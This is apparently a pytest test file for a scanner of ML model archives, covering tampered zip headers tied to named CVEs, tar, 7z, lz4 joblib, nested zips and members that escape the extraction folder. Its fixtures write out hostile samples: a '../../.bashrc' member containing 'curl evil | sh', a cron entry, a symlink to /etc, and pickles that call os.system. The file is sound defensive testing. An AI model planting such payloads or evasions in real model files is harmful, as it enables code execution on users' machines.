"""Containers read the way their loaders read them: tampered zip headers, tar (plain,
SageMaker tar.gz, torch's legacy tar), 7z, lz4 joblib, zip in zip; and archive members
that leave the extraction folder."""

from __future__ import annotations

import io
import pickle
import stat
import zipfile
from pathlib import Path

import lz4.frame  # type: ignore[import-untyped]
import py7zr
import pytest

from mlwarden.checks.models import Options
from tests.checks.models import builders
from tests.checks.models.test_helpers import (
    benign_state_dict,
    evil,
    ids,
    joblib_like,
    only,
    scan,
    torch_zip,
    zip_of,
)

DATA_PKL = "archive/data.pkl"


def _unjudged(result: object) -> list[str]:
    return [f.message for f in only(result, "MOD007")]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "tamper"),
    [
        ("encrypted flag (CVE-2025-1945)", lambda d: builders.set_flags(d, DATA_PKL, 0x1)),
        ("flag 0x20", lambda d: builders.set_flags(d, DATA_PKL, 0x20)),
        ("flag 0x40", lambda d: builders.set_flags(d, DATA_PKL, 0x40)),
        (
            "local name (CVE-2025-1944)",
            lambda d: builders.rename_local(d, DATA_PKL, "archive/data.pkx"),
        ),
        ("wrong CRC (CVE-2025-10156)", lambda d: builders.break_crc(d, DATA_PKL)),
    ],
)
def test_tampered_zip_headers_are_read_as_torch_reads_them(
    tmp_path: Path, name: str, tamper: object
) -> None:
    assert callable(tamper)
    result = scan(tmp_path, {"pytorch_model.bin": tamper(torch_zip(evil()))})
    assert ids(result) == [
        ("MOD001", "pytorch_model.bin", DATA_PKL),
        ("MOD003", "pytorch_model.bin", None),
    ], name


def test_tampered_but_harmless_zip_is_clean(tmp_path: Path) -> None:
    data = builders.break_crc(torch_zip(benign_state_dict()), DATA_PKL)
    result = scan(tmp_path, {"pytorch_model.bin": builders.set_flags(data, DATA_PKL, 0x1)})
    assert ids(result) == [("MOD003", "pytorch_model.bin", None)]


def test_deflated_member_with_the_encrypted_flag(tmp_path: Path) -> None:
    data = builders.deflated_zip_with_flags("model/data.pkl", evil(), 0x1)
    result = scan(tmp_path, {"model.pt": data})
    assert ids(result) == [("MOD001", "model.pt", "model/data.pkl"), ("MOD003", "model.pt", None)]


def test_what_no_loader_can_read_fails_closed(tmp_path: Path) -> None:
    unsupported = builders.set_method(builders.stored_zip({DATA_PKL: evil()}), DATA_PKL, 98)
    result = scan(
        tmp_path,
        {
            "method.bin": unsupported,
            "truncated.bin": torch_zip(evil())[:-30],
            "ciphertext.pt": builders.set_flags(
                builders.stored_zip({DATA_PKL: b"\x93\x11\xfe" * 40}), DATA_PKL, 0x1
            ),
        },
    )
    assert ids(result) == [
        ("MOD007", "ciphertext.pt", None),
        ("MOD007", "method.bin", None),
        ("MOD007", "truncated.bin", None),
    ]
    messages = {f.location.path: f.message for f in result.findings}
    assert "compression method is not supported" in messages["method.bin"]
    assert "truncated or corrupt zip" in messages["truncated.bin"]


def test_zip_members_that_leave_the_folder(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("../../.bashrc", b"curl evil | sh\n")
        zf.writestr("/etc/cron.d/x", b"* * * * * root id\n")
        zf.writestr("model/./weights/../config.json", b"{}")  # stays inside
        link = zipfile.ZipInfo("model/link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc")
    result = scan(tmp_path, {"model.zip": out.getvalue()})
    assert ids(result) == [
        ("MOD008", "model.zip", "../../.bashrc"),
        ("MOD008", "model.zip", "/etc/cron.d/x"),
        ("MOD008", "model.zip", "model/link"),
    ]


def test_tar_members_and_links_that_leave_the_folder(tmp_path: Path) -> None:
    data = builders.tar_of(
        {"../../.bashrc": b"id\n", "./model/ok.txt": b"fine\n", "model/sub/../x.txt": b"x"},
        links={"model/link": "/etc", "model/rel": "../model/ok.txt"},
    )
    result = scan(tmp_path, {"model.tar": data})
    assert ids(result) == [
        ("MOD008", "model.tar", "../../.bashrc"),
        ("MOD008", "model.tar", "model/link"),
    ]


def test_sagemaker_model_tar_gz(tmp_path: Path) -> None:
    bad = builders.tar_of(
        {"model.pth": torch_zip(evil()), "code/inference.py": b"x = 1\n"}, mode="w:gz"
    )
    good = builders.tar_of({"model.pth": torch_zip(benign_state_dict())}, mode="w:gz")
    result = scan(tmp_path, {"bad/model.tar.gz": bad, "good/model.tar.gz": good})
    assert ids(result) == [
        ("MOD001", "bad/model.tar.gz", "model.pth!archive/data.pkl"),
        ("MOD003", "bad/model.tar.gz", None),
        ("MOD003", "good/model.tar.gz", None),
    ]


STORAGE_RECORD = b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nt."


def _legacy_tar(second_record: bytes) -> bytes:
    """torch's legacy tar: `storages` interleaves (key, location, type) pickles with an
    element count and the raw float32 elements, as legacy_load reads it."""
    storages = (
        pickle.dumps(2, protocol=2)
        + STORAGE_RECORD
        + (2).to_bytes(8, "little")
        + b"\0" * 8
        + second_record
        + (1).to_bytes(8, "little")
        + b"\0" * 4
        + pickle.dumps([], protocol=2)
    )
    return builders.tar_of(
        {
            "sys_info": pickle.dumps({"protocol_version": 1001}, protocol=2),
            "pickle": pickle.dumps({}, protocol=2),
            "storages": storages,
            "tensors": pickle.dumps(0, protocol=2),
        }
    )


def test_legacy_torch_tar_reads_every_storage_record(tmp_path: Path) -> None:
    # The payload hides in the second storage record, after raw storage bytes.
    payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."
    result = scan(
        tmp_path,
        {"ok.pth.tar": _legacy_tar(STORAGE_RECORD), "bad.pth.tar": _legacy_tar(payload)},
    )
    assert ids(result) == [
        ("MOD001", "bad.pth.tar", "storages"),
        ("MOD003", "bad.pth.tar", None),
        ("MOD003", "ok.pth.tar", None),
        ("MOD007", "bad.pth.tar", "storages"),
    ]
    assert only(result, "MOD003")[1].message.startswith("legacy torch tar checkpoint")


def test_7z_members_and_encryption(tmp_path: Path) -> None:
    plain = io.BytesIO()
    with py7zr.SevenZipFile(plain, "w") as archive:
        archive.writestr(torch_zip(evil()), "model/model.pt")
        archive.writestr(b"weights", "model/readme.txt")
    locked = io.BytesIO()
    with py7zr.SevenZipFile(locked, "w", password="secret", header_encryption=True) as archive:
        archive.writestr(evil(), "model.pkl")
    result = scan(tmp_path, {"model.7z": plain.getvalue(), "locked.7z": locked.getvalue()})
    assert ids(result) == [
        ("MOD001", "model.7z", "model/model.pt!archive/data.pkl"),
        ("MOD003", "model.7z", None),
        ("MOD007", "locked.7z", None),
    ]
    assert "encrypted 7z" in only(result, "MOD007")[0].message


def test_lz4_joblib(tmp_path: Path) -> None:
    bad = lz4.frame.compress(joblib_like(8, after=evil()[2:-1]))
    good = lz4.frame.compress(joblib_like(8))
    result = scan(tmp_path, {"bad.joblib": bad, "good.joblib": good})
    assert ids(result) == [
        ("MOD001", "bad.joblib", None),
        ("MOD003", "bad.joblib", None),
        ("MOD003", "good.joblib", None),
    ]
    assert only(result, "MOD003")[0].message.startswith("lz4-compressed joblib file")


def test_zip_in_deflated_zip(tmp_path: Path) -> None:
    inner = zip_of({"pytorch_model.bin": torch_zip(evil())})
    result = scan(tmp_path, {"bundle.zip": zip_of({"inner.zip": inner})})
    assert ids(result) == [
        ("MOD001", "bundle.zip", "inner.zip!pytorch_model.bin!archive/data.pkl"),
        ("MOD003", "bundle.zip", None),
    ]
    capped = scan(tmp_path, {"bundle.zip": zip_of({"inner.zip": inner})}, Options(max_nesting=1))
    assert ids(capped) == [("MOD007", "bundle.zip", "inner.zip!pytorch_model.bin")]


def test_torch_package_archive_imports_its_modules(tmp_path: Path) -> None:
    from tests.checks.models.test_helpers import call, stream

    package = zip_of(
        {
            "pkg/.data/extern_modules": b"torch\n",
            "pkg/.data/version": b"6\n",
            "pkg/mymod.py": b"import os\nos.system('id')\n",
            "pkg/model/model.pkl": stream(call("mymod", "M", ()), 2),
        }
    )
    # torch.save zips carry `.data/serialization_id` too, but no packaged modules.
    saved = zip_of({"m/data.pkl": benign_state_dict(), "m/.data/serialization_id": b"1"})
    result = scan(tmp_path, {"package.pt": package, "saved.pt": saved})
    assert ids(result) == [
        ("MOD001", "package.pt", None),
        ("MOD002", "package.pt", "pkg/model/model.pkl"),
        ("MOD003", "package.pt", None),
        ("MOD003", "saved.pt", None),
    ]
    assert "pkg/mymod.py" in only(result, "MOD001")[0].message


def test_torchscript_archive_names_are_data_inside_it(tmp_path: Path) -> None:
    from tests.checks.models.test_helpers import call, stream

    data = stream(
        call("__torch__.torch.nn.modules.linear", "Linear", ())
        + call("torch.jit._pickle", "build_intlist", ([1, 2],)),
        2,
    )
    members = {
        "m/data.pkl": data,
        "m/constants.pkl": stream(b")", 2),
        "m/code/__torch__/torch/nn/modules/linear.py": b"class Linear(Module):\n  pass\n",
    }
    plain = {"m/data.pkl": data, "m/version": b"3\n"}
    result = scan(tmp_path, {"scripted.pt": zip_of(members), "plain.pt": zip_of(plain)})
    assert ids(result) == [
        ("MOD001", "plain.pt", "m/data.pkl"),
        ("MOD002", "plain.pt", "m/data.pkl"),
        ("MOD003", "plain.pt", None),
        ("MOD003", "scripted.pt", None),
    ]
    assert only(result, "MOD003")[1].message.startswith("TorchScript archive")
